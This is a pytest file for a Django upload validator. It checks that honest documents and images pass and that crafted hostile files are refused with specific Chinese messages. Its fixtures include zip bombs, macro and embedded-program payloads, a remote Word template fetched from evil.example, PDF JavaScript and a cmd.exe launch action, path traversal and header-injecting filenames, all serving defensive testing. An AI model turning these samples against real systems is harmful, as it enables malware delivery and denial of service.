"""Every way a file can be wrong has a sentence of its own; honest files pass."""

import io
import struct
import zipfile
import zlib

import pytest
from django.core.exceptions import ValidationError

from sanhua.files.checks import check_upload, clean_name, images, office, pdf
from sanhua.files.tests import samples

REMOTE_TEMPLATE = (
    b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/'
    b'2006/relationships/attachedTemplate" Target="%s" TargetMode="External"/></Relationships>'
)


def check(name, content, kinds=()):
    return check_upload(name, io.BytesIO(content), len(content), kinds)


def refusal(name, content, kinds=()):
    with pytest.raises(ValidationError) as caught:
        check(name, content, kinds)
    (sentence,) = caught.value.messages
    return sentence


def encrypted_zip():
    content = bytearray(samples.docx())
    for at in _positions(content, b"PK\x01\x02"):
        content[at + 8] |= 1
    return bytes(content)


def lying_zip():
    """The directory says ten bytes; the entry unpacks to a megabyte, its first ten fit the sum."""
    big = bytes(1024 * 1024)
    content = bytearray(samples.docx({"word/media/image1.bin": big}))
    check_sum = zlib.crc32(big[:10])
    for at in _positions(content, b"PK\x01\x02"):
        if struct.unpack("<L", content[at + 24 : at + 28])[0] == len(big):
            content[at + 16 : at + 20] = struct.pack("<L", check_sum)
            content[at + 24 : at + 28] = struct.pack("<L", 10)
    return bytes(content)


def zip64_zip():
    content = samples.docx()
    at = content.rfind(b"PK\x05\x06")
    return content[:at] + b"PK\x06\x07" + bytes(16) + content[at:]


def _positions(content, signature):
    at = content.find(signature)
    while at >= 0:
        yield at
        at = content.find(signature, at + 1)


@pytest.mark.parametrize(
    ("name", "content", "media_type"),
    [
        ("报告.pdf", samples.pdf(), "application/pdf"),
        ("报告.PDF", b"\xef\xbb\xbf" + samples.pdf(), "application/pdf"),
        ("压缩.pdf", samples.pdf(samples.object_stream(b"<</Type/Annot>>")), "application/pdf"),
        ("照片.jpg", samples.jpeg(), "image/jpeg"),
        ("照片.jpeg", samples.jpeg(4000, 3000), "image/jpeg"),
        ("截图.png", samples.png(), "image/png"),
        ("方案.docx", samples.docx(), "wordprocessingml.document"),
        (
            "带图表.docx",
            samples.docx({"word/embeddings/Book1.xlsx": samples.xlsx()}),
            "wordprocessingml.document",
        ),
        (
            "带公式.docx",
            samples.docx({"word/embeddings/oleObject1.bin": samples.ole("Equation Native")}),
            "wordprocessingml.document",
        ),
        (
            "本机模板.docx",
            samples.docx(
                {
                    "word/_rels/settings.xml.rels": REMOTE_TEMPLATE
                    % b"file:///C:\\Users\\li\\Templates\\report.dotx"
                }
            ),
            "wordprocessingml.document",
        ),
        ("台账.xlsx", samples.xlsx(), "spreadsheetml.sheet"),
    ],
)
def test_an_honest_file_passes_and_is_rewound(name, content, media_type):
    stream = io.BytesIO(content)
    assert check_upload(name, stream, len(content)).endswith(media_type)
    assert stream.read() == content


ATTACKS = {
    "empty": ("a.pdf", b"", "文件是空的，请重新选择。"),
    "program": ("a.exe", b"MZ", "不能上传.exe文件。可上传PDF、JPG、PNG、DOCX、XLSX。"),
    "archive": ("a.zip", samples.docx(), "不能上传.zip文件。可上传PDF、JPG、PNG、DOCX、XLSX。"),
    "old Word": (
        "a.doc",
        samples.ole(),
        "不能上传.doc文件。可上传PDF、JPG、PNG、DOCX、XLSX。请先另存为DOCX。",
    ),
    "no extension": (
        "报告",
        samples.pdf(),
        "文件名没有扩展名，无法识别。可上传PDF、JPG、PNG、DOCX、XLSX。",
    ),
    "hidden extension": (
        "报告\u202efdp.exe",
        b"MZ",
        "不能上传.exe文件。可上传PDF、JPG、PNG、DOCX、XLSX。",
    ),
    "web page": (
        "a.pdf",
        b"\n<!DOCTYPE html><script>alert(1)</script>",
        "文件内容与扩展名不一致（看起来是网页文件）。请重新导出为PDF后上传。",
    ),
    "drawing that runs": (
        "a.png",
        b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>",
        "文件内容与扩展名不一致（看起来是SVG图片）。请重新导出为PNG后上传。",
    ),
    "program as picture": (
        "a.jpg",
        b"MZ" + bytes(100),
        "文件内容与扩展名不一致（看起来是程序）。请重新导出为JPG后上传。",
    ),
    "picture as other picture": (
        "a.jpg",
        samples.png(),
        "文件内容与扩展名不一致（看起来是PNG图片）。请重新导出为JPG后上传。",
    ),
    "text": (
        "a.pdf",
        "只是文字".encode(),
        "文件内容与扩展名不一致（看起来是文本文件）。请重新导出为PDF后上传。",
    ),
    "PDF as Word": (
        "a.docx",
        samples.pdf(),
        "文件内容与扩展名不一致（看起来是PDF）。请重新导出为DOCX后上传。",
    ),
    "Excel as Word": (
        "a.docx",
        samples.xlsx(),
        "文件内容与扩展名不一致（看起来是Excel文件）。请重新导出为DOCX后上传。",
    ),
    "any archive as Word": (
        "a.docx",
        samples.archive({"a.txt": b"a"}),
        "文件内容与扩展名不一致（看起来是压缩包或其他Office文件）。请重新导出为DOCX后上传。",
    ),
    "old Word as new": (
        "a.docx",
        samples.ole("WordDocument"),
        "文件内容与扩展名不一致（看起来是旧版Office文件）。请用WPS或Office另存为DOCX后上传。",
    ),
    "macro by name": ("a.docm", samples.docx(), office.MACRO),
    "macro inside": ("a.docx", samples.docx({"word/vbaProject.bin": b"x"}), office.MACRO),
    "macro by type": (
        "a.xlsx",
        samples.xlsx(more_types="application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
        office.MACRO,
    ),
    "macro sheet": ("a.xlsx", samples.xlsx({"xl/macrosheets/sheet1.xml": b"<x/>"}), office.MACRO),
    "macro in an embedded book": (
        "a.docx",
        samples.docx({"word/embeddings/b.xlsx": samples.xlsx({"xl/vbaProject.bin": b"x"})}),
        office.MACRO,
    ),
    "macro in an old object": (
        "a.docx",
        samples.docx({"word/embeddings/oleObject1.bin": samples.ole("_VBA_PROJECT")}),
        office.MACRO,
    ),
    "macro in an old container": ("a.docx", samples.ole("_VBA_PROJECT"), office.MACRO),
    "password": ("a.docx", samples.ole("EncryptedPackage", "EncryptionInfo"), office.PASSWORD),
    "password of the archive": ("a.docx", encrypted_zip(), office.PASSWORD),
    "password of a PDF": (
        "a.pdf",
        samples.pdf(trailer=b"/Encrypt 9 0 R"),
        "文件设有密码或权限限制，请解除后上传（可用“打印为PDF”重新生成）。",
    ),
    "disguised password of a PDF": (
        "a.pdf",
        samples.pdf(trailer=b"/#45ncrypt 9 0 R"),
        "文件设有密码或权限限制，请解除后上传（可用“打印为PDF”重新生成）。",
    ),
    "bomb by ratio": (
        "a.xlsx",
        samples.xlsx({"xl/worksheets/sheet1.xml": b"<c/>" * 5_000_000}),
        office.BOMB,
    ),
    "bomb by entries": (
        "a.xlsx",
        samples.xlsx({f"xl/{n}.xml": b"" for n in range(2001)}),
        office.BOMB,
    ),
    "bomb that lies": ("a.docx", lying_zip(), office.BOMB),
    "directory beyond the end record": ("a.docx", zip64_zip(), office.BOMB),
    "archive inside": (
        "a.docx",
        samples.docx({"word/embeddings/inner.zip": samples.archive({"a.txt": b"a"})}),
        office.NESTED.format(name="inner.zip"),
    ),
    "program inside under another name": (
        "a.docx",
        samples.docx({"word/media/image1.png": b"MZ" + bytes(50)}),
        office.NESTED.format(name="image1.png"),
    ),
    "packaged program": (
        "a.docx",
        samples.docx({"word/embeddings/oleObject1.bin": samples.ole("\x01Ole10Native")}),
        office.NESTED.format(name="oleobject1.bin"),
    ),
    "document in a document in a document": (
        "a.docx",
        samples.docx(
            {"word/embeddings/a.docx": samples.docx({"word/embeddings/b.docx": samples.docx()})}
        ),
        office.NESTED.format(name="b.docx"),
    ),
    "control": ("a.docx", samples.docx({"word/activeX/activeX1.xml": b"<x/>"}), office.ACTIVE),
    "template from elsewhere": (
        "a.docx",
        samples.docx(
            {"word/_rels/settings.xml.rels": REMOTE_TEMPLATE % b"http://evil.example/t.dotm"}
        ),
        office.ACTIVE,
    ),
    "template from elsewhere in disguise": (
        "a.docx",
        samples.docx(
            {"word/_rels/settings.xml.rels": REMOTE_TEMPLATE % b"&#104;ttps://evil.example/t.dotm"}
        ),
        office.ACTIVE,
    ),
    "entities": (
        "a.xlsx",
        samples.xlsx({"xl/sharedStrings.xml": b'<!DOCTYPE x [<!ENTITY a "a">]><x>&a;</x>'}),
        "文件未通过安全检查，已拦截。请用WPS或Office重新保存后上传。",
    ),
    "text hidden by its encoding": (
        "a.xlsx",
        samples.xlsx({"xl/sharedStrings.xml": "<!DOCTYPE x>".encode("utf-16")}),
        office.BROKEN,
    ),
    "way out of the folder": ("a.docx", samples.docx({"../../etc/x.xml": b"<x/>"}), office.BROKEN),
    "cut off": ("a.docx", samples.docx()[:-40], office.BROKEN),
    "script in a PDF": (
        "a.pdf",
        samples.pdf(b"<</S/JavaScript/JS(app.alert\\(1\\))>>"),
        "PDF中含有脚本，不能上传。请用“打印为PDF”重新生成后上传。",
    ),
    "disguised script in a PDF": (
        "a.pdf",
        samples.pdf(b"<</S/J#61vaScript/JS(1)>>"),
        "PDF中含有脚本，不能上传。请用“打印为PDF”重新生成后上传。",
    ),
    "compressed script in a PDF": (
        "a.pdf",
        samples.pdf(samples.object_stream(b"<</S/JavaScript/JS(1)>>")),
        "PDF中含有脚本，不能上传。请用“打印为PDF”重新生成后上传。",
    ),
    "launch in a PDF": (
        "a.pdf",
        samples.pdf(b"<</S /Launch/F(cmd.exe)>>"),
        "PDF中含有启动其他程序的动作，不能上传。请用“打印为PDF”重新生成后上传。",
    ),
    "objects that cannot be looked into": (
        "a.pdf",
        samples.pdf(b"<</Type/ObjStm/Filter/ASCIIHexDecode>>\nstream\n3C3C3E3E\nendstream"),
        "文件未通过安全检查，已拦截。请用“打印为PDF”重新生成后上传。",
    ),
    "PDF bomb": (
        "a.pdf",
        samples.pdf(samples.object_stream(bytes(pdf.INFLATED_MAX))),
        "PDF解压后过大，不能上传。请用“打印为PDF”重新生成后上传。",
    ),
    "half a PDF": (
        "a.pdf",
        samples.pdf()[:120],
        "PDF文件不完整，可能下载或扫描时中断。请重新导出后上传。",
    ),
    "huge PNG": (
        "a.png",
        samples.png(20_000, 20_000),
        "图片20000×20000像素，过大。请缩小到1亿像素以内、边长不超过30000像素后上传。",
    ),
    "huge JPG": (
        "a.jpg",
        samples.jpeg(40_000, 10),
        "图片40000×10像素，过大。请缩小到1亿像素以内、边长不超过30000像素后上传。",
    ),
    "broken JPG": ("a.jpg", samples.jpeg()[:12], images.BROKEN),
    "broken PNG": ("a.png", samples.png()[:30], images.BROKEN),
}


@pytest.mark.parametrize("attack", ATTACKS)
def test_each_bad_file_is_refused_with_its_own_sentence(attack):
    name, content, sentence = ATTACKS[attack]
    assert refusal(name, content) == sentence


def test_a_file_that_is_too_big_hears_its_real_size(settings):
    settings.UPLOAD_BYTES_MAX = 1024 * 1024
    assert refusal("a.pdf", bytes(1024 * 1024 * 7 // 2)).startswith("文件3.5MB，超过1MB。")
    assert refusal("a.pdf", bytes(1024 * 1024 + 1)).startswith("文件1.1MB，超过1MB。")


def test_a_field_may_allow_fewer_kinds():
    assert refusal("a.pdf", samples.pdf(), ("xlsx",)) == "不能上传.pdf文件。可上传XLSX。"
    assert check("a.xlsx", samples.xlsx(), ("xlsx",)).endswith("sheet")


def test_stored_entries_are_looked_into_like_compressed_ones():
    content = samples.archive(
        {
            "[Content_Types].xml": samples.types(samples.WORD_MAIN),
            "word/media/image1.png": b"MZ" + bytes(20),
        },
        zipfile.ZIP_STORED,
    )
    assert "内嵌" in refusal("a.docx", content)


def test_every_sentence_is_told_apart():
    sentences = {
        ATTACKS[name][2]
        for name in ("empty", "program", "web page", "macro inside", "password", "bomb by ratio",
                     "archive inside", "control", "entities", "cut off", "script in a PDF",
                     "launch in a PDF", "half a PDF", "huge PNG", "broken JPG")
    }  # fmt: skip
    assert len(sentences) == 15


@pytest.mark.parametrize(
    ("name", "clean"),
    [
        ("实施方案.docx", "实施方案.docx"),
        ("C:\\Users\\li\\报告.pdf", "报告.pdf"),
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("报告\u202efdp.exe", "报告fdp.exe"),
        ("a\r\nSet-Cookie: x.pdf", "aSet-Cookie_ x.pdf"),
        ("a\0.pdf", "a.pdf"),
        ('关于"三化"<试点>.pdf', "关于_三化__试点_.pdf"),
        (".pdf", "未命名.pdf"),
        ("", "未命名"),
        ("x.exe. . ", "x.exe"),
        ("CON.pdf", "_CON.pdf"),
        ("附件 1　说明.pdf", "附件 1 说明.pdf"),
        ("\ud800x.pdf", "x.pdf"),
        ("长" * 300 + ".pdf", "长" * 116 + ".pdf"),
        ("x." + "p" * 300, "x." + "p" * 20),
    ],
)
def test_strange_names_are_cleaned(name, clean):
    assert clean_name(name) == clean
